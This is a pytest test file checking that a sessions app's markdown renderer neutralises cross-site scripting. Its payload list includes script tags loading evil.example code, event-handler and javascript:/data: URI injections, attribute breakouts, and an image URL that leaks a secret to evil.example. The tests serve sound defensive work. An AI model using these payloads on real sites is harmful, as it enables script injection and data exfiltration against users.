"""Markdown from a message never becomes script, handler or unsafe link (SPEC §11)."""

from __future__ import annotations

import pytest

from sessions_app.rendering import render_markdown

from .markup import assert_inert

# (payload, text the reader must still see)
PAYLOADS = [
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ("<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    ("<iframe src=javascript:alert(1)></iframe>", "<iframe src=javascript:alert(1)></iframe>"),
    ("<style>body{display:none}</style>", "<style>body{display:none}</style>"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="data:text/html,'),
    ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
    ("[x](JaVaScRiPt:alert(1))", "[x](JaVaScRiPt:alert(1))"),
    ("[x](&#106;avascript:alert(1))", "avascript:alert(1))"),
    ("[x](vbscript:msgbox(1))", "[x](vbscript:msgbox(1))"),
    ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:text/html"),
    ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("![x](javascript:alert(1))", "(javascript:alert(1))"),
    ('[x](https://ok.example "a\\" onmouseover=\\"alert(1)")', "x"),
    ("[x]: javascript:alert(1)\n\n[x]", "[x]"),
    ("| a |\n|---|\n| <script>alert(1)</script> |", "<script>alert(1)</script>"),
    ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    ("<!-- <script>alert(1)</script> -->", "<!-- <script>alert(1)</script> -->"),
]


@pytest.mark.parametrize(("payload", "shown"), PAYLOADS)
def test_payload_is_inert_and_still_shown(payload, shown):
    doc = assert_inert(render_markdown(payload))
    assert shown in doc.text


@pytest.mark.parametrize("language", ["html", "", "nosuchlanguage", 'x" onload="alert(1)'])
def test_html_inside_a_code_fence_is_shown_as_code(language):
    source = "<script>alert(1)</script>\n<img src=x onerror=alert(1)>"
    html = render_markdown(f"```{language}\n{source}\n```")
    doc = assert_inert(html)
    assert source in doc.text
    assert "&lt;" in html and "<img" not in html


def test_an_image_is_a_link_not_a_request():
    html = render_markdown("![chart](https://evil.example/leak?secret=1)")
    doc = assert_inert(html)
    assert "<img" not in html
    assert doc.named("a")[0]["href"] == "https://evil.example/leak?secret=1"


def test_relative_and_protocol_relative_links_lose_their_target():
    doc = assert_inert(render_markdown("[admin](/admin/) [other](//evil.example/)"))
    assert all("href" not in a for a in doc.named("a"))
    assert "admin" in doc.text and "other" in doc.text


def test_link_title_cannot_break_out_of_its_attribute():
    doc = assert_inert(render_markdown('[x](https://ok.example "\\" onclick=\\"alert(1)")'))
    (link,) = doc.named("a")
    assert link["title"] == '" onclick="alert(1)'
